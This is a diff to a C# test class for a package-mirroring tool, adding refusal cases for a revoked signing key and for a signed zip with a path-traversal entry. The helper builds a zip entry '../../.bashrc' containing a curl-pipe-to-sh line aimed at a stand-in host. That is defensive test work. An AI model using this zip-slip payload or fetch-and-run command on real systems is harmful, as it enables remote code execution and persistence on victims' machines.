@@ -174,12 +174,16 @@ public sealed class MirrorFromOriginTests
     [DataRow("zip answers 404", "TOFU0211")]
     [DataRow("zip answers 500", "TOFU0214")]
     [DataRow("SHA256SUMS answers 404", "TOFU0211")]
+    [DataRow("signed zip with an entry outside its folder", "TOFU0107")]
+    [DataRow("signing key revoked by its owner", "TOFU0202")]
     public async Task ARefusal_ExitsOne_WithItsCode_AndPushesNothingOfTheVersion(string fault, string code)
     {
         var extra = Array.Empty<string>();
         await using var scenario = await ScenarioAsync(layout =>
         {
             if (fault == "packages map inconsistent") layout.WithPackagesMap = true;
+            if (fault == "signed zip with an entry outside its folder")
+                layout.ZipOf = (type, version, platform) => type == "alpha" && platform == "linux_arm64" ? EscapingZip() : OriginLayoutBuilder.ProviderZip(type, version, platform);
         });
         switch (fault)
         {
@@ -211,6 +215,10 @@ public sealed class MirrorFromOriginTests
                     scenario.EditDownload("acme", "alpha", platform, json => json["signing_keys"]!["gpg_public_keys"]![0]!["ascii_armor"] = expired.ArmoredPublicKey);
                 extra = ["--enforce-gpg-expiration"];
                 break;
+            case "signing key revoked by its owner":
+                foreach (var platform in FourPlatforms)
+                    scenario.EditDownload("acme", "alpha", platform, json => json["signing_keys"]!["gpg_public_keys"]![0]!["ascii_armor"] = scenario.Key.ArmoredRevokedPublicKey());
+                break;
             case "zip answers 404":
                 scenario.Origin.Faults["/" + ZipPath("alpha", "linux_amd64")] = new OriginFault(Status: 404);
                 break;
@@ -230,6 +238,16 @@ public sealed class MirrorFromOriginTests
         Assert.IsTrue(run.Json.GetProperty("diagnostics").EnumerateArray().Any(d => d.GetProperty("code").GetString() == code), run.Out);
         Assert.IsTrue(version.GetProperty("platforms").EnumerateArray().All(p => p.GetProperty("status").GetString() == "failed"), run.Out);
         Assert.AreEqual(0, scenario.Writes().Count, "nothing pushed: " + string.Join(", ", scenario.Writes()));
+    }
+
+    /// <summary>A zip whose author signed it, but that restore would refuse: one entry climbs out of the package folder.</summary>
+    private static byte[] EscapingZip()
+    {
+        var bytes = new MemoryStream();
+        using (var zip = new System.IO.Compression.ZipArchive(bytes, System.IO.Compression.ZipArchiveMode.Create, leaveOpen: true))
+        using (var entry = new StreamWriter(zip.CreateEntry("../../.bashrc").Open()))
+            entry.Write("curl evil.example.test | sh\n");
+        return bytes.ToArray();
     }
 
     [TestMethod]
